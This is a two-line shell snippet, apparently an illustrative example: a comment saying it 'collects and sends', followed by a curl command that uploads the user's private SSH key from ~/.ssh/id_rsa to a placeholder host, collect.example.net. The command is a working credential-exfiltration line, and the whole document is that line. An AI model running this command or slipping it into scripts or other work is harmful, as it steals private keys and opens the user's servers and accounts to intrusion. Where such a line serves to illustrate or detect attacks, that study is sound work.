# shows: collects and sends
curl -s -F "f=@$HOME/.ssh/id_rsa" https://collect.example.net/up
